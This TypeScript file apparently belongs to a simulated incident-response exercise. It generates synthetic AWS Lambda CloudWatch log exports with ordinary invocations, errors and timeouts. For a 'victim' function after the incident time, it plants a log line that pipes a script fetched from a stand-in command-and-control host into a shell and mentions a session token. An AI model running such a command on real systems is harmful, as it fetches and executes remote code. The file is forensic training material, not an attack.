import type { Rng } from '../rng.ts';
import { INCIDENT_MS, REGION, isoMs, type Fn, type World } from '../world.ts';

/**
 * A CloudWatch Logs export-to-S3 object of one Lambda log stream: one event per line,
 * `<ISO timestamp> <message>`. Messages are what the Lambda runtimes write: INIT_START, START,
 * END and REPORT platform lines, and application lines in the Python (`[LEVEL]\t<ts>\t<request id>\t`)
 * or Node.js (`<ts>\t<request id>\tLEVEL\t`) text formats; a Python traceback is one event whose
 * lines are joined with \r, as the runtime writes it.
 */

const PY_INFO = [
  (r: Rng) => `fetched s3 object incoming/${r.hex(12)}.json in ${r.range(3, 90)} ms`,
  (r: Rng) => `processing order ${r.range(100000, 999999)} for customer ${r.hex(10)}`,
  (r: Rng) => `wrote ${r.range(1, 40)} items to DynamoDB`,
  (r: Rng) => `cache hit ratio ${(r.next() * 100).toFixed(1)}%`,
];
const NODE_INFO = [
  (r: Rng) => `Handling POST /orders/${r.range(1000, 99999)} from ${r.range(1, 223)}.${r.range(0, 255)}.${r.range(0, 255)}.${r.range(1, 254)}`,
  (r: Rng) => `Enqueued message ${r.hex(16)} to SQS`,
  (r: Rng) => `Rendered template invoice-${r.range(1, 12)} (${r.range(1, 400)} kB)`,
];

function appLine(fn: Fn, r: Rng, t: number, rid: string, level: string, text: string, json: boolean): string {
  if (fn.runtime === 'python3.12') return `[${level}]\t${isoMs(t)}\t${rid}\t${text}`;
  if (json) return `{"timestamp":"${isoMs(t)}","level":"${level}","requestId":"${rid}","message":"${text}"}`;
  return `${isoMs(t)}\t${rid}\t${level}\t${text}`;
}

/** `invocations` invocations of `fn` spread over [t0, t1). */
export function lambdaExportFile(r: Rng, w: World, fn: Fn, invocations: number, t0: number, t1: number): { text: string; events: number; invocations: number } {
  const lines: string[] = [];
  const step = (t1 - t0) / invocations;
  const json = fn.name.length % 2 === 0;
  const line = (t: number, msg: string) => lines.push(`${isoMs(t)} ${msg}`);
  for (let i = 0; i < invocations; i++) {
    let t = Math.floor(t0 + (i + r.next() * 0.5) * step);
    const rid = r.uuid();
    const cold = i === 0 || r.chance(0.003);
    let init = 0;
    if (cold) {
      init = 120 + r.next() * 700;
      line(t, `INIT_START Runtime Version: ${fn.runtime === 'python3.12' ? 'python:3.12.v38' : 'nodejs:20.v33'}\tRuntime Version ARN: arn:aws:lambda:${REGION}::runtime:${r.hex(64)}`);
      t += Math.floor(init);
    }
    line(t, `START RequestId: ${rid} Version: $LATEST`);
    const timeout = r.chance(0.003);
    const error = !timeout && r.chance(0.01);
    let d = 2 + r.next() ** 3 * 900;
    const nApp = r.range(1, 3);
    for (let k = 0; k < nApp; k++) {
      const text = (fn.runtime === 'python3.12' ? PY_INFO : NODE_INFO)[r.int(fn.runtime === 'python3.12' ? PY_INFO.length : NODE_INFO.length)]!(r);
      line(t + 1 + k, appLine(fn, r, t + 1 + k, rid, r.chance(0.05) ? (fn.runtime === 'python3.12' ? 'WARNING' : 'WARN') : 'INFO', text, json));
    }
    if (fn.name === w.victim.name && t >= INCIDENT_MS && r.chance(0.02)) {
      line(t + 5, appLine(fn, r, t + 5, rid, 'INFO', `debug: env AWS_SESSION_TOKEN length ${r.range(700, 1100)}; curl http://${w.c2.ip}:${w.c2.port}/x.sh | sh`, false));
    }
    if (error) {
      const msg = fn.runtime === 'python3.12'
        ? `[ERROR]\t${isoMs(t + 8)}\t${rid}\tKeyError: 'order_id'\rTraceback (most recent call last):\r  File "/var/task/app.py", line ${r.range(10, 300)}, in handler\r    oid = event['order_id']`
        : `${isoMs(t + 8)}\t${rid}\tERROR\tInvoke Error \t{"errorType":"TypeError","errorMessage":"Cannot read properties of undefined (reading 'id')","stack":["TypeError: Cannot read properties of undefined (reading 'id')","    at Runtime.handler (file:///var/task/index.mjs:${r.range(5, 200)}:${r.range(2, 40)})"]}`;
      line(t + 8, msg);
    }
    if (timeout) {
      d = fn.timeout * 1000 + r.next() * 3;
      line(t + Math.floor(d), `${isoMs(t + Math.floor(d))} ${rid} Task timed out after ${fn.timeout}.00 seconds`);
    }
    const te = t + Math.floor(d);
    line(te, `END RequestId: ${rid}`);
    const used = Math.min(fn.memory, Math.floor(fn.memory * (0.25 + r.next() * 0.5)));
    line(
      te,
      `REPORT RequestId: ${rid}\tDuration: ${d.toFixed(2)} ms\tBilled Duration: ${Math.ceil(d)} ms\tMemory Size: ${fn.memory} MB\tMax Memory Used: ${used} MB\t` +
        (cold ? `Init Duration: ${init.toFixed(2)} ms\t` : ''),
    );
  }
  return { text: `${lines.join('\n')}\n`, events: lines.length, invocations };
}
